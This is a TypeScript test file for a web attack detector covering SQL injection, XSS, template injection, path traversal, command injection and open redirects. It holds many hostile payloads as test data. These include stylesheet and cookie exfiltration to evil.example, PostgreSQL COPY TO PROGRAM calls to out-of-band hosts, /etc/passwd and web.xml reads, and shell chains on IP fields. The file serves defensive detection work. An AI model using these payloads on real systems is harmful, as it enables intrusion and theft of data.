    // (sixtieth round) its exemptions' shapes: references after `as` (each read back to its foreach, 200 characters at most), GraphQL
    // modules, Docker comments inside RUN, component blocks after a comment and inside an attribute, conversion probes, `$(pwd)`
    'foreach (x as &$v) ', ' as &$v)', "import gql from 'graphql-tag'\nconst Q = gql`query q($a: T) {\nid\n}`\n", 'RUN a \\\n# c\n', '<script\u00a0setup>\n/* x */\n', '<img alt="\n<script setup>\n', // (sixty-first round) a comment then blank lines (each line break's look for a later line was the square of their count)
    "' --\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n", 'select a.b(1);\n', "convert(int,'a'+'b')--", '$(pwd)/']
  let slowest = 0
  for (const u of units) {
    const run = u.repeat(Math.ceil(16_384 / u.length)).slice(0, 16_384)
    const t0 = performance.now()
    detector.detect({ ...base, query: `q=${run}`, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded', cookie: `a=${run.slice(0, 4096)}` }, body: Buffer.from(`a=${run}`) })
    detector.detect({ ...base, path: `/${run}`, headers: { 'content-type': 'text/plain', 'user-agent': run.slice(0, 4096), 'x-anything': run.slice(0, 8192) }, body: Buffer.from(run) })
    slowest = Math.max(slowest, performance.now() - t0)
  }
  t.comment(`slowest unit: ${slowest.toFixed(1)} ms for two 16 KiB requests`)
  t.pass('all finished')
})

t.test("subshells after quotes nested in a subshell's own line are judged once, not once per `'(` (exponential before)", async (t) => {
  // each `'(` in the last 200 characters opened a subshell whose line was judged again, each of its own `'(` again: 2^k
  for (const lead of ['a; ', 'a | ', 'a\n']) {
    const v = lead + "x'(".repeat(60) + ')'.repeat(60)
    t.same(q(v), [], 'a 200-character value of quotes and parentheses')
    t.same(json({ v }), [])
  }
  t.ok(q('\';"//%%*()("")}]]:("(\'(sh -i -c "id")').includes('rce'), 'the polyglot whose subshell runs a command still is one')
})

t.test('the labelled corpus: at least 95% detection per class, at most 0.5% false positives', async (t) => {
  const f = evaluateCorpus()
  for (const c of f.classes) {
    t.ok(c.payloads >= 12, `${c.class}: ${c.payloads} payloads`)
    t.ok(c.detectionPct >= 95, `${c.class}: ${c.detectionPct}% detected`)
    t.ok(c.fpPct <= 0.5, `${c.class}: ${c.fpPct}% false positives`)
  }
  t.ok(f.benign >= 3_000, `${f.benign} benign values`)
  t.ok(f.benignFlaggedPct <= 0.5, `${f.benignFlaggedPct}% of benign values flagged as anything`)
  const held = evaluateCorpus(detector, 'held-out.jsonl')
  const total = held.classes.reduce((n, c) => n + c.payloads, 0)
  const found = held.classes.reduce((n, c) => n + c.detected, 0)
  t.comment(`held-out payloads (never used for tuning): ${found}/${total} detected`)
})

t.test('repeated paths and user agents: verdicts kept, bounded, and the same as the first time', async (t) => {
  const d = defaultDetector()
  const probe = { ...base, path: '/..%2f..%2fetc/passwd', headers: { 'user-agent': 'sqlmap/1.7' } }
  const first = d.detect(probe)
  t.same(first, ['path_traversal', 'scanner'])
  t.same(d.detect(probe), first, 'the second time, from the kept verdicts')
  for (let i = 0; i < 5_000; i++) d.detect({ ...base, path: `/items/${i}`, headers: { 'user-agent': `agent ${i}` } })
  t.same(d.detect(probe), first, 'past the bound (kept verdicts forgotten), judged again alike')
  const long = { ...base, path: '/a/' + 'b'.repeat(600) + '/../../etc/passwd' }
  t.same(d.detect(long), ['path_traversal'])
  t.same(d.detect(long), ['path_traversal'], 'a long path is judged each time')
})

t.test("(fifty-second round) XAML's Frame and a Vue compiler macro opening a component's script are no markup to probe with", async (t) => {
  const page = '        <Grid Row="1">\n            <Frame x:Name="ContentFrame"/>\n        </Grid>\n    </Grid>\n</Page>\n'
  t.same(q(page), [], "XAML's Frame with XAML's own attributes")
  t.same(q('<script setup lang="ts">\n  definePageMeta({\n    middleware: ["auth"],\n  });\n\n  const route = useRoute();'), [], "Nuxt's definePageMeta")
  t.same(q('<script setup>\nconst props = defineProps({ title: String })\n</script>\n<template><h1>{{ title }}</h1></template>'), [], "Vue's defineProps")
  t.ok(q('<frame x:name="a" src="javascript:alert(1)">').includes('xss'), 'a frame with a source is read')
  t.ok(q('<frameset><frame src=x onload=alert(1)>').includes('xss'), 'an HTML frame is read')
  t.ok(q('<script setup>\ndefineProps(alert(1))\n</script>').includes('xss'), 'a sink in the macro is read')
})

t.test("(fifty-second round) a template's own refresh, condition and icon", async (t) => {
  t.same(q('{% extends "helpdesk/public_base.html" %}\n{% if request.user.is_authenticated %}\n    <meta http-equiv="REFRESH" content="0;url={% url \'helpdesk:home\' %}">\n{% else %}'), [], "a refresh to Django's url tag")
  t.same(q("      {% if helpdesk_settings.HELPDESK_ENABLE_ATTACHMENTS %}\n      // lists for file input change events\n      $('.add_file_fields_wrap').on('fileselect', ':file', function(event, numFiles) {\n      });"), [], 'a condition on one name of the data')
  t.same(q('<svg class="<%= local_assigns[:class] %>" xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24" fill="none" stroke="currentColor">\n  <path d="M7 5v5a5 5 0 0 0 10 0v-5" />\n</svg>\n'), [], "an icon with an ERB class")
  t.ok(q('<meta http-equiv="refresh" content="0;url=//x.example/">').includes('xss'), 'a refresh to another host is read')
  t.ok(q('{% if 7*7 == 49 %}yes{% endif %}').includes('ssti'), 'a computed condition is a probe')
  t.ok(q('{% if config.SECRET_KEY %}yes{% endif %}').includes('ssti'), "a condition on the engine's objects is a probe")
  t.ok(q('{% if request.application.__globals__ %}x{% endif %}').includes('ssti'), 'a walk in a condition is a probe')
  t.ok(q('<svg class="<%= x %>" onload="alert(1)" width="24"><path d="M0 0"/></svg>').includes('xss'), 'an icon with a handler is read')
})

t.test("(fifty-second round) a user's action handed to the page's own function with the element or the event: no code of the value's", async (t) => {
  t.same(q('<fieldset id="filters">\n  <legend onclick="toggleFieldset(this);" class="icon">Filters</legend>\n</fieldset>'), [], 'toggleFieldset(this)')
  t.same(q('<button onclick="selectRow(event, 3)">x</button>'), [], 'selectRow(event, 3)')
  for (const p of ['<legend onclick="alert(this)">x</legend>', '<a onclick="eval(event)">x</a>', '<a onclick="open(this)">x</a>', '<a onfocus="toggle(this)" autofocus>x</a>', '<a onclick="toggle(this.ownerDocument.cookie)">x</a>']) t.ok(q(p).includes('xss'), `still read: ${p}`)
})

t.test('(fifty-third round) an absolute URL to another host spelt to pass a check that compares text', async (t) => {
  const at = (key: string, v: string) => detector.detect({ ...base, headers: { ...base.headers, host: 'shop.example.com' }, query: `${key}=${encodeURIComponent(v)}` })
  for (const v of ['https://evil.com./', 'https://whitelisted.com.evil.com', 'https://legit.co.uk.evil.net/x', 'http://legitapp.com\u00b0evil.com', 'http://evil.com/%0d%0aSet-Cookie:%20a=1', 'http://evil.com/\r\nSet-Cookie: a=1']) {
    t.ok(at('next', v).includes('open_redirect'), `next=${v}`)
  }
  for (const v of ['https://partner.example.org/welcome', 'https://shop.com.au/checkout', 'https://www.example.com.br/', 'https://accounts.example.net/?continue', 'https://help.example.org/#section-2', 'https://m\u00fcnchen.de/', 'https://app.example.io/docs/#/guide',
    // (review) a share, calendar or mail link's own text, a government's or a county's site, a bucket, a library proxy, an emoji domain
    'https://api.whatsapp.com/send?text=Hi%0Athere', 'https://calendar.google.com/calendar/render?action=TEMPLATE&details=Line1%0D%0ALine2', 'https://example.org/article\n',
    'https://www2.gov.bc.ca/gov/content/home', 'https://www.co.pierce.wa.us/', 'https://assets.acme-corp.com.s3.amazonaws.com/index.html', 'https://www.jstor.org.ezproxy.library.wisc.edu/x',
    'https://i\u2764.ws/', 'https://col\u00b7legi.cat/', 'https://acme.org\u201d']) {
    t.same(at('next', v), [], `a plain target: next=${v}`)
  }
  t.same(at('q', 'https://evil.com./'), [], 'outside a redirect parameter a URL is data')
})

t.test('(fifty-third round) a keyword cut by a comment, a benchmark after a literal, an alert through the window, a class walk in EL', async (t) => {
  for (const v of ['SEL/**/ECT', 'SELEC/*FOOBAR*/T', 'UN/*x*/ION ALL', '1 BENCHMARK(5000000,MD5(1))--', "x' BENCHMARK(100000,SHA1(1))#"]) t.ok(q(v).includes('sqli'), v)
  for (const v of ['SELECT/**/1', 'color/**/: red', 'a/**/b', 'sel/**/ective', 'Results: Node 20 benchmark (100000, 8 threads) took 3s', 'v2 benchmark(100000, 4)']) t.notOk(q(v).includes('sqli'), `not sqli: ${v}`)
  t.ok(q("'-top.alert(1)-'").includes('xss'), "'-top.alert(1)-'")
  // (review) the page's own timers and requests through the window are no probe
  for (const v of ["const el = document.getElementById('x'); window.setTimeout(() => el.focus(), 0)", "localStorage.setItem('k','v');window.setInterval(poll,5000);", "navigator.serviceWorker.register('/sw.js'); self.fetch('/x')"]) t.notOk(q(v).includes('xss'), v)
  t.ok(q('";window.confirm`1`//').includes('xss'), 'window.confirm`1`')
  t.notOk(q("it's top.alert(1) here").includes('xss'), 'no string broken out of')
  t.ok(q('${x.class.protectionDomain.classLoader}').includes('ssti'), 'protectionDomain.classLoader')
  // (review) a build script locating its own jar
  t.same(q('println "Jar: ${Foo.class.protectionDomain.codeSource.location.path}"'), [], 'codeSource.location')
  t.same(q('${item.class.name}'), [], "a template's own field named class")
})

t.test("(fifty-fifth round) a handler of one name, a JSP page's own settings; the review's migrations and directives", async (t) => {
  t.same(q('<preConditions onFail="MARK_RAN">\n    <not>\n        <columnExists tableName="music_folder" columnName="type"/>\n    </not>\n</preConditions>'), [], "Liquibase's onFail")
  for (const v of ['<x onclick="alert(1)">', '<x onclick="alert`1`">', '<svg onload="location=name">', '<x onclick=alert>', '<x onclick="a.b">', '<x onclick="x;y()">', '<x onfocus="alert" autofocus onblur="eval(name)">']) t.ok(q(v).includes('xss'), `still read: ${v}`)
  t.same(q('<!DOCTYPE html>\n<%@ page language="java" contentType="text/html; charset=utf-8" pageEncoding="iso-8859-1"%>'), [], "a JSP page's own settings")
  // (review, Jasper 9: a source encoding makes the bytes after the directive a scriptlet)
  for (const v of ['<%@ page import="java.io.*" %>', '<%@ page language="java" %><%= request.getParameter("x") %>', '<%@ page errorPage="x.jsp" %>', '<%@ include file="/etc/passwd" %>', '<%@ page info="a" extends="x" %>', '<%@ page pageEncoding="Cp037" %>Ll@', '<%@ page contentType="text/html; charset=Cp037" %>Ll@']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // (review, MariaDB 10.11, PostgreSQL 15, SQLite 3: each ran after a WHERE; START TRANSACTION and CALL opening a program were withdrawn, and these,
  // older than the round, are read: a carriage return ending a comment, a # line holding a ;, a literal opening and closing on operators,
  // a statement after a blank opening a literal)
  for (const v of [
    "-- Schema 224\nCALL DropIdx(' IS NOT NULL = (SELECT ASCII(SUBSTR(password,1,1)) > 82 FROM admins LIMIT 1) - ');\nALTER TABLE users ADD x int;\nCOMMIT;",
    "DROP TABLE IF EXISTS t;\nCREATE TABLE t (a varchar(10) DEFAULT ' IS NOT NULL = 1 - ');\nALTER TABLE users ADD x int;",
    'DROP TABLE IF EXISTS t;\nCREATE TABLE t (a varchar(10) DEFAULT " IS NOT NULL = 1 - ");\nALTER TABLE users ADD x int;',
    "-- x\r1; DROP TABLE victim; --\nDROP TABLE IF EXISTS t;\nALTER TABLE users ADD x int;\nCOMMIT;",
    "# polygon(box(point(0,0),point(1,1))); DROP TABLE victim; --\nDROP TABLE IF EXISTS t;\nALTER TABLE users ADD x int;",
    "DROP TABLE IF EXISTS t;\nCREATE TABLE t (a varchar(10) DEFAULT ' DROP TABLE users PRINT ');\nALTER TABLE users ADD x int;",
  ]) t.ok(q(v).includes('sqli'), JSON.stringify(v))
  t.same(q("CREATE TABLE `monitor_tag` (\n\t`id` integer PRIMARY KEY NOT NULL,\n\t`created_at` integer DEFAULT (strftime('%s', 'now')),\n\t`updated_at` integer DEFAULT (strftime('%s', 'now'))\n);\n--> statement-breakpoint\nCREATE INDEX `monitor_tag_idx` ON `monitor_tag` (`id`);"), [], "a format's '%s' in a migration")
})

t.test('(fifty-sixth round) a style sheet linked from another origin; JSP\'s XML syntax and JSTL\'s import; the review\'s cases', async (t) => {
  for (const v of [
    '"><link rel="stylesheet" href="https://evil.example/steal.css">',
    '\'><link href="https://evil.example/a.css" rel="alternate stylesheet">',
    "\"><link rel='stylesheet' href='\\\\evil.example\\a.css'>",
    '</title><link rel=stylesheet href=//evil.example/x.css>',
    '</textarea><link rel=stylesheet href=//evil.example/x.css>',
    // (review, Chromium 156: each fetched the sheet and its leak)
    '"><link rel="a b c d stylesheet" href=//evil.example/x.css>',
    '"><link rel="x1 stylesheet" href=//evil.example/x.css>',
    '"><link rel="stylesheet" title=">" href=//evil.example/x.css>',
    '"><link rel="stylesheet" data-href="//fonts.googleapis.com/css?" href=//evil.example/x.css>',
    `"><link rel="stylesheet" data-x="${'A'.repeat(250)}" href=//evil.example/x.css>`,
    `"><link rel=stylesheet data-x=${'A'.repeat(300)} href=//evil.example/x.css>`,
    'x"><link rel=stylesheet href=//evil.example/x.css>',
    // (second review, Chromium: each loaded the sheet and leaked a hidden input)
    '"><link rel=stylesheet media=screen type=text/css referrerpolicy=no-referrer href=http://evil.example/x.css>',
    '"><link title="<" rel=stylesheet href=//evil.example/x.css>',
    '"><link rel=stylesheet title="href=//fonts.googleapis.com/" href=http://evil.example/x.css>',
    'x"     ><link rel=stylesheet href=//evil.example/x.css>',
  ]) t.ok(q(v).includes('xss'), v.slice(0, 100))
  for (const v of [
    '<link rel="stylesheet" href="/static/site.css">',
    '<link href="common.css" rel="stylesheet">',
    '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap">',
    '<link href="https://fonts.googleapis.com/icon?family=Material+Icons" rel="stylesheet">',
    '<link rel="stylesheet" href="https://fonts.bunny.net/css?family=figtree:400,600&display=swap">',
    '<link rel="icon" href="https://cdn.example/favicon.ico">',
    // (review) a whole page, an e-mail, a document's sentence: the page's own sheet
    '<!DOCTYPE html><html><head><link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@5/dist/css/bootstrap.min.css"></head><body>hi</body></html>',
    'Add `<link rel="stylesheet" href="https://unpkg.com/leaflet/dist/leaflet.css">` to your head',
    // (second review) a CMS's head snippet, a note opening on a sheet; a value opening on the link is told from an injected comment by
    // nothing, and neither is read (nor the payload lists' bare `<LINK REL="stylesheet" HREF="http://xss.cx/xss.css">`)
    '<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css">',
    '<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/katex/dist/katex.min.css">\n# Math notes',
    '<LINK REL="stylesheet" HREF="http://xss.cx/xss.css">',
  ]) t.same(q(v), [], v.slice(0, 100))
  for (const v of [
    '<jsp:include page="/WEB-INF/web.xml"/>',
    '<jsp:forward page="/WEB-INF/web.xml"/>',
    '<jsp:directive.include file="/WEB-INF/web.xml"/>',
    '<jsp:expression>7*7</jsp:expression>',
    '"><jsp:declaration>int x = 1;</jsp:declaration>',
    '<c:import url="/WEB-INF/web.xml"/>',
    '<c:import var=">" url="/WEB-INF/web.xml"/>',
    // (second review, Jasper 9: each printed the descriptor or 49)
    '<jsp:include page="WEB-INF/web.xml"/>',
    '<jsp:include page="/WEB-INF/web.xml?x=1"/>',
    '<jsp:include page="/WEB-INF/web.xml;x=1"/>',
    `<jsp:include flush="true"${' '.repeat(45)}page="/WEB-INF/web.xml"/>`,
    'F: hello <jsp:expression>7*7</jsp:expression>',
  ]) t.ok(q(v).includes('ssti'), v)
  // (review) a JSP page's own views, beans and imports, a document naming the actions
  for (const v of [
    '<%@ page contentType="text/html;charset=UTF-8" %>\n<%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %>\n<html><body>\n<jsp:include page="/WEB-INF/views/header.jsp"/>\n<p>${u.name}</p>\n</body></html>',
    '<jsp:include page="/WEB-INF/views/header.jsp"/>',
    '<c:import url="/WEB-INF/fragments/nav.jsp"/>',
    '<c:import url="http://example.com/feed.xml" var="feed"/>',
    // (second review) relative includes, JSTL's XML import
    '<%@ page contentType="text/html" %>\n<div><jsp:include page="../common/header.jsp" /></div>',
    '<c:import url="../shared/footer.jsp" />',
    '<c:import url="/WEB-INF/xml/books.xml" var="booksXml" />\n<x:parse xml="${booksXml}" var="books"/>',
    'Use <jsp:useBean> to instantiate a bean.',
    'The page uses a jsp:include action for its header.',
  ]) t.same(q(v), [], v.slice(0, 100))
})

t.test('(fifty-sixth round, tuned on the spent fortieth part\'s misses) a statement with no blank, a program run by the database, a timing probe', async (t) => {
  // (review, MariaDB 10.11: each ran, bare)
  for (const v of ['SELECT-1e1FROM`test`', 'SELECT~1.FROM`test`', 'SELECT\\NFROM`test`', 'SELECT-id-1.FROM`test`', 'SELECT-\\NFROM`t1`', 'SELECT-1e1FROM/**/t1', 'SELECT-1e1FROM#\nt1', 'SELECT-(1)FROM`t1`', "SELECT-'1'FROM`t1`"]) t.ok(q(v).includes('sqli'), v)
  // (review, PostgreSQL 15: each ran its program)
  for (const v of ["copy (SELECT '') to program 'nslookup c7f3k2.oast.example.net'", "COPY t FROM PROGRAM 'id'", "COPY (SELECT 1) TO PROGRAM U&'bash -c id'", "COPY (SELECT 1) TO PROGRAM'nslookup x.oast.example'", "COPY (SELECT 'a;b') TO PROGRAM 'ping -c 1 x.oast.example'", "'; BEGIN f := UTL_FILE.FOPEN('DIR','shell.php','w'); END;--"]) t.ok(q(v).includes('sqli'), v)
  for (const v of ['sleep 10 && echo vulnerable', 'sleep 5;id', '  sleep 3 || curl http://x.oast.example']) t.ok(q(v).includes('rce'), v)
  for (const v of ['Press select-1 from the menu', '.select-1.from-left { color: red }', 'e.select!=null&&Array.from(e.select)', 'select~.from {color:red}', 'Copy the installer to program files and run it', "COPY (SELECT * FROM audit_log) TO PROGRAM 'gzip > /archive/audit.csv.gz' CSV HEADER", "UTL_FILE.FOPEN('LOG_DIR','app.log','w')", "v_file := UTL_FILE.FOPEN('REPORT_DIR','report.pl','a');", 'sleep 8h; eat well', 'sleep 10 minutes and then try again', 'Sleep 7.5h | Type: deep | Quality: good', 'sleep 8h | id: 4471 | mood: rested',
    // (second review) a diary's hours, a load's fetch, psql's client-side copy, code's and a style's names
    'Sleep 8h\nCat to the vet at 10', 'Sleep 6h & ping the landlord', 'sleep 30\ncurl -s http://localhost:3000/api/health', "\\copy zipcodes FROM PROGRAM 'curl -sL https://example.com/zip.csv' WITH CSV HEADER", "COPY zipcodes FROM PROGRAM 'curl -sL https://example.com/zip.csv' WITH CSV HEADER",
    '.select-2.from--open { display:block }', 'e.select!=null&&a1.from(e.select)', "$('#s').select2({}); select2.from"]) t.same(q(v), [], v)
  // (review) a command field's own line and a package's scripts
  t.same(json({ scripts: { 'wait-db': 'sleep 5 && echo "db ready"' } }), [], "a package's scripts")
  t.same(json({ command: 'sleep 30 && echo ready && exec java -jar /app/app.jar' }), [], "a command field's own line")
})

t.test("(fifty-seventh round, tuned on the spent hundred-and-thirty-fifth and -sixth parts) a path's . segments; Vue components in TypeScript; a shell's ${CONFIRM}", async (t) => {
  for (const v of ['/./etc/./passwd', '/etc/./shadow', 'C:\\.\\windows\\.\\win.ini']) t.ok(detector.detect({ ...base, query: `file=${encodeURIComponent(v)}` }).includes('path_traversal'), v)
  for (const v of ['import x from "./a/./b"', 'see /./docs/./intro.md']) t.same(q(v), [], v)
  for (const v of [
    '<script lang="ts" setup>\ndefineEmits([\'change\']);\nconst props = defineProps<{\n  ipv4Cidr: string;\n}>();\n\nfunction resetOnOpen(open: boolean) {\n  if (!open) return;\n}\n</script>\n',
    '<script lang="ts" setup>\ndefineProps<{\n  id: string;\n  label: string;\n}>();\n\nconst data = defineModel<string | null>();\n</script>\n',
    '<script lang="ts" setup>\nconst data = defineModel<string[] | null>();\n\nfunction update(e: Event, i: number): void {\n  data.value[i] = (e.target as HTMLInputElement).value;\n}\n</script>\n',
    '<script>\nexport default defineComponent({\n  name: "x",\n})\n</script>\n',
    'for CLIENT_NAME in "${LIST[@]}"; do\n  if [[ -n "${CONFIRM}" ]]; then\n    REPLY="y"\n  fi\ndone\n',
  ]) t.same(json({ snippet: v }), [], v.slice(0, 80))
  // still read: a sink inside a typed function, a default value that calls, a template handing a sink over
  for (const [v, cls] of [
    ['<script lang="ts" setup>\ndefineProps<{ id: string }>();\nfunction f(e: Event): void {\n  alert(document.cookie)\n}\n</script>\n', 'xss'],
    ['<script setup>\nconst a = 1\nfunction f(x = alert(1)) {}\nf()\n</script>\n', 'xss'],
    ['[1].sort.call`${alert}1337`', 'xss'],
    // (review, Chromium: each ran) the Function constructor in a ternary, which small letters make a declaration's shape; a template's
    // sink far from its backtick, or quoted inside it
    ["<script>\nconst a = 1\nconst f = 1 ? Function('alert(1)') : {}\nf()\n</script>\n", 'xss'],
    ['<p>Comment</p>\n<script setup lang="ts">\nconst t = 1 ? Function("alert(document.domain)") : {}\nt()\n</script>\n', 'xss'],
    ["<script>\nconst a = 1\nnew (1 ? Function('alert(8)') : {})\n</script>\n", 'xss'],
    [`';[].sort.call\`${'a'.repeat(41)}\${alert}1337\`//`, 'xss'],
    ['[].sort.call`"${alert}"`', 'xss'],
    // (review, older than the round: both ran in Chromium) a sink through call, and through `this`, the window in a classic script
    ["<script>\nconst a = 1\nconst x = this.alert\nx(2)\n</script>\n", 'xss'],
    ["<script>\nconst a = 1\nsetTimeout.call(null, 'alert(3)')\n</script>\n", 'xss'],
  ] as const) t.ok(json({ snippet: v }).includes(cls), `still read: ${v.slice(0, 80)}`)
})

t.test("(fifty-eighth round, tuned on the spent parts) a path above its root; an address chained to an echo; Twig's namespaced templates; an icon's opening alone", async (t) => {
  for (const v of ['/jbfm/../../', '/api/../../../input/data', '/a/./../../b', 'C:\\inetpub\\..\\..\\x', '/files\\..\\..\\boot.ini']) t.ok(detector.detect({ ...base, query: `path=${encodeURIComponent(v)}` }).includes('path_traversal'), v)
  for (const v of ['/docs/../guide', '/a/b/../c', '../x', '/a/b/../../c', '//cdn/../x', 'see /docs/../../ later']) t.same(q(v), [], v)
  for (const v of ['127.0.0.1;echo test', '10.0.0.1 && printf x', '10.0.0.1\necho hi', '8.8.8.8 | echo hello', 'localhost && echo ok']) t.ok(detector.detect({ ...base, query: `ip=${encodeURIComponent(v)}` }).includes('rce'), v)
  for (const v of ['ok; echo that', 'Rooms 4.2; echo chamber', 'v1.2 && echo done']) t.same(q(v), [], v)
  for (const v of ["{% include '@molecules/callout/callout.twig' %}", '{% extends "@hdbt/content/node.html.twig" %}']) t.same(json({ snippet: `{#\n/**\n * @file\n */\n#}\n${v}\n` }), [], v)
  for (const v of ["{%- include snippets/prepend-baseurl.html path=_article.url -%}", "{%- include functions.html func='log' level='debug' msg='Get value' -%}", '{% include svg/logo.svg %}']) t.same(q(v), [], v)
  for (const v of ["{% include '@x/../../etc/passwd.twig' %}", "{% include '@x' %}", "{% include 'x.html' %}", '{% include /etc/passwd %}', '{% include ../../etc/passwd %}', '{% include x.html path=request.session %}']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  t.same(json({ header: '<svg xmlns="http://www.w3.org/2000/svg" width="125" height="125" viewBox="0 0 125 125" class="avatar-svg">', species: ['unicorn'] }), [], "an icon's opening alone")
  for (const v of ['<svg>', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">', '<svg width="1">x', '<svg xmlns="http://www.w3.org/2000/svg" title=">"><script>alert(1)</script>']) t.ok(json({ header: v }).includes('xss'), `still read: ${v}`)
})

t.test("(fifty-eighth round's review) the climb above a root, the address's probe, Jekyll's include and the icon's opening, narrowed and widened", async (t) => {
  const at = (k: string, v: string) => detector.detect({ ...base, query: `${k}=${encodeURIComponent(v)}` })
  // bypasses and same-kind misses: a climb written with backslashes, a folder named first, past 300 characters; an address's other forms
  for (const v of ['/jbfm/..\\..\\input\\data', '/jbfm\\..\\..\\input\\data', 'C:\\..\\x', 'jbfm/../../input/data', `/api/${'a/../'.repeat(60)}../../input/data`]) t.ok(at('path', v).includes('path_traversal'), v)
  for (const v of ['127.0.0.1;\\echo x', '127.0.0.1`echo x`', '127.0.0.1$(echo x)', '127.0.0.1;{echo,x}', '-c 1 127.0.0.1;echo x', '127.0.0.1 -c 1;echo x', '::1;echo x', '[::1];echo x', '0x7f000001;echo x']) t.ok(at('ip', v).includes('rce'), v)
  for (const v of ['{% include request.json %}', '{% include cycler.__init__.__globals__.os.environ.json %}', '{% include config.html %}', '{% include app.session.clear.json %}', '{% include snippets/app.session.invalidate.html %}', '{% include 7-7.html %}', '{% include x.html a=__class__.__mro__ %}', '{% include x.html a=x.__class__ %}']) t.ok(q(v).includes('ssti'), v)
  t.ok(json({ header: '<svg xmlns="http://www.w3.org/2000/svg" width="125" title=">' }).includes('xss'), "an icon's opening with a quote left open")
  // false positives: a page's or an asset's address, a file's name before an echo, a table's row, prose, a time
  for (const v of ['/../images/logo.png', '/assets/../../fonts/a.woff2', '/../css/sellItem.css']) for (const k of ['src', 'href', 'image', 'path', 'q']) t.same(at(k, v), [], `${k}=${v}`)
  for (const v of ['setup.exe && echo done', 'build.cmd && echo Build finished', 'README.md | echo hi', 'localhost:8080 && echo started', '10.0.0.5;Echo Server;linux', 'Amazon.com & Echo Dot bundle', 'Vue.js | Echo chamber', '10:30:00 | echo done']) for (const k of ['q', 'command', 'ip']) t.same(at(k, v), [], `${k}=${v}`)
})

t.test("(fifty-eighth round's second review) the icon's attributes read as a tag's, dashes in an include's name, a climb's page or script, an echo's one argument", async (t) => {
  const at = (k: string, v: string) => detector.detect({ ...base, query: `${k}=${encodeURIComponent(v)}` })
  // bypasses: quotes counted even but a value left open, a style covering the page; a dash Jinja and Twig read as a subtraction
  for (const v of ['<svg width="1" x=\'"\' title=">', '<svg xmlns="http://www.w3.org/2000/svg" width="125" a=x"y title=">', '<svg width="1" style="position:fixed;inset:0;width:100vw;height:100vh;background:#fff">']) t.ok(json({ header: v }).includes('xss'), v)
  for (const v of ['{% include x-request.json %}', '{% include x-config.html %}', '{% include x-lipsum.html %}', '{% include x-7.html %}']) t.ok(q(v).includes('ssti'), v)
  // same-kind misses: a climb after a named folder to a script or a page, blanks around or inside; an echo with a separator after it,
  // the addresses ping resolves
  for (const v of ['/static/../../server.js', 'static/../../server.js', '/public/../../index.html', '/img/../../includes/connect.php', '/jbfm/../../input/data ', '/jbfm/../../input/my data']) t.ok(at('path', v).includes('path_traversal'), v)
  for (const v of ['127.0.0.1;echo x;', '127.0.0.1&echo x&', '127.1;echo x', '0177.0.0.1;echo x', '::ffff:127.0.0.1;echo x', '127.0.0.1:80;echo x']) t.ok(at('ip', v).includes('rce'), v)
  // false positives: a device's row, a ticket, an article's code, a timestamp, a batch file's comment
  for (const v of ['192.168.1.42;Echo Dot Kitchen', '192.168.1.23\nEcho Show keeps dropping off Wi-Fi since the update', '12345678;Echo Dot (5th Gen)', '40170725|Echo Show 8', '20240115 & Echo Park trip', '1700000000;echo request received', '::\r\necho Deploying']) for (const k of ['q', 'notes', 'ip']) t.same(at(k, v), [], `${k}=${v}`)
  t.same(q('{%- include snippets/prepend-baseurl.html path=_article.url -%}'), [], "Jekyll's dashed file name")
})

t.test("(fifty-ninth round, tuned on the spent hundred-and-thirty-ninth and -fortieth parts) an overlong climb; keywords split by a filter's characters; a ./ before a climb; Svelte's module scripts; dbt's ref", async (t) => {
  for (const q0 of ['q=/theme/META-INF/%c0%ae%c0%ae/META-INF/MANIFEST.MF', 'q=x/%C0%AE%C0%AE/y', 'q=..%c0%afetc']) t.ok(detector.detect({ ...base, query: q0 }).includes('path_traversal'), q0)
  t.same(detector.detect({ ...base, query: 'q=caf%c3%a9%20cr%c3%a8me' }), [], 'UTF-8 as it should be')
  for (const v of ["錦' a<>nd 1=2 un<>ion sel<>ect 1,md5(1),3#", "5 whe\\re 1={`\\='` 1} un\\ion (s\\elect uid,sid fr\\om user_online whe\\re 1\\={`=` 1})-- '"]) t.ok(q(v).includes('sqli'), v)
  for (const v of ['a\\nb or c', 'x<>y', 'C:\\Users\\select\\notes.txt', 'if (a<>b) then c']) t.notOk(q(v).includes('sqli'), v)
  t.ok(detector.detect({ ...base, query: `picUrl=${encodeURIComponent('./../config/database.php')}` }).includes('path_traversal'), 'a ./ before a climb to a configuration')
  t.same(q('./../index.php'), [], "a ./ before a climb to a site's page")
  for (const v of [
    '<script lang="ts" context="module">\n  export const dataGridRowHeight = writable(0);\n</script>\n',
    "<script context=\"module\">\n  import _ from 'lodash';\n  export function computeSplitterSize(a, b) {\n    return a + b;\n  }\n</script>\n",
    'with\n    base as (select * from {{ ref("stg_dbt__snapshot_executions") }}),',
    'SELECT\n  *\nFROM {{ ref("a") }}\n',
  ]) t.same(json({ snippet: v }), [], v.slice(0, 60))
  for (const [v, cls] of [
    ['<script context="module">\n  export function f() {\n    alert(document.cookie)\n  }\n</script>\n', 'xss'],
    ['<script context="module">\nexport const x = 1\n</script>\n<img src=x onerror=alert(1)>', 'xss'],
    ['<script>\nfunction f(a) {\n  return a\n}\n</script>\n', 'xss'],
    ['{{ ref(x) }}', 'ssti'],
    ["{{ ref('a', v=request) }}", 'ssti'],
  ] as const) t.ok(json({ snippet: v }).includes(cls), `still read: ${v.slice(0, 60)}`)
})

t.test("(fifty-ninth round's review, Chromium) a module script set aside only when it opens on an export or an import; a block the browser ends sooner; sinks older than the round; split keywords past the gates", async (t) => {
  const bodies = ['onerror=setTimeout;throw"=alert(1)"', 'with(document)write("<img src=x onerror=alert(1)>")', 'with(document)body.innerHTML="<img src=x onerror=alert(1)>"', 'import/**/("data:text/javascript,alert(1)")', 'open("//evil.example/?"+escape(name))', 'with(document)c=cookie\nnew Audio("//evil.example/?"+c)', 'new EventSource("//evil.example/")']
